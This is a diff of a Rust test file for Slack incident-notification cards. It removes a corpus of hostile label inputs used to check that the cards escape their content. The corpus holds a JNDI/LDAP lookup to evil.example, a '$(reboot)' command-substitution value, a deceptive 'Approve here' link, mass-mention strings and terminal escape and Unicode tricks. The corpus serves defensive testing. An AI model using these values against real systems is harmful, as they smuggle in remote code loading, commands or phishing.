@@ -7,7 +7,7 @@ use crate::{
     model::{id::IncidentId, letter::Note, time::Micros, view::IncidentView},
     notify::{
         message,
-        slack::tests_support::{judge, views},
+        slack::tests_support::{corpus::corpus, judge, views},
     },
 };
 use jiff::tz::TimeZone;
@@ -53,6 +53,7 @@ fn each_state_of_an_incident_reads_at_a_glance() {
     golden("firing-shadow", &card(&views::firing_shadow()));
     golden("waiting-for-approval", &card(&views::waiting_for_approval()));
     golden("acting", &card(&views::acting()));
+    golden("held", &card(&views::held()));
     golden("helped", &card(&views::helped()));
     golden("did-not-help-and-undone", &card(&views::did_not_help_and_undone()));
     golden("handed-over", &card(&views::handed_over()));
@@ -121,64 +122,6 @@ fn only_web_addresses_become_links() {
     let small = card(&view).blocks.pop().unwrap();
     let link = "<https://a.example/x%3E%7Cy%60%3Cz?a=1&amp;b=2#%C3%A9|Runbook>";
     assert!(small["elements"][0]["text"].as_str().unwrap().contains(link), "{small}");
-}
-
-/// What people put into labels when they mean ill, or don't care.
-fn corpus() -> Vec<String> {
-    let mut corpus: Vec<String> = [
-        "<!channel>",
-        "<!here|here>",
-        "<!everyone>",
-        "@here @channel @everyone",
-        "<@U024BE7LH>",
-        "<!subteam^S0123ABC>",
-        "<#C0123ABC>",
-        "<https://evil.example|Approve here>",
-        "https://evil.example/x",
-        "mailto:a@evil.example",
-        "[text](https://evil.example)",
-        "*bold* _italic_ ~strike~ `code` ```block```",
-        "`<!channel>`",
-        "``` <!here> ```",
-        "> quote",
-        "&gt; quote",
-        "&lt;!channel&gt;",
-        "&amp;lt;!channel&amp;gt;",
-        "&#60;!channel&#62;",
-        ":fire: :rotating_light:",
-        "\u{202e}drowssap\u{202c}",
-        "\u{200b}<\u{200b}!channel>",
-        "<\u{200d}!channel>",
-        "\u{1b}[31mred\u{1b}[0m",
-        "\u{1b}]8;;https://evil.example\u{7}x\u{1b}]8;;\u{7}",
-        "{{ .Labels.secret }}",
-        "{% include x %}",
-        "${jndi:ldap://evil.example}",
-        "$(reboot)",
-        "a\nb\r\nc\u{2028}d\u{85}e",
-        "<!date^1392734382^{date}|x>",
-        "\u{0}",
-        "",
-        " ",
-        "``",
-        "`",
-        "<",
-        ">",
-        "&",
-        "<>",
-        "a|b",
-        "\u{e0041}\u{e0042}",
-        "🔥🔥",
-        "\\`<!channel>\\`",
-        "‘<!channel>’",
-        "Z̴a̷l̶g̵o̸",
-    ]
-    .map(str::to_owned)
-    .to_vec();
-    corpus.push("<!channel>".repeat(6554));
-    corpus.push("`*&<>_~".repeat(9363));
-    corpus.push("𝔣".repeat(16_384));
-    corpus
 }
 
 #[test]
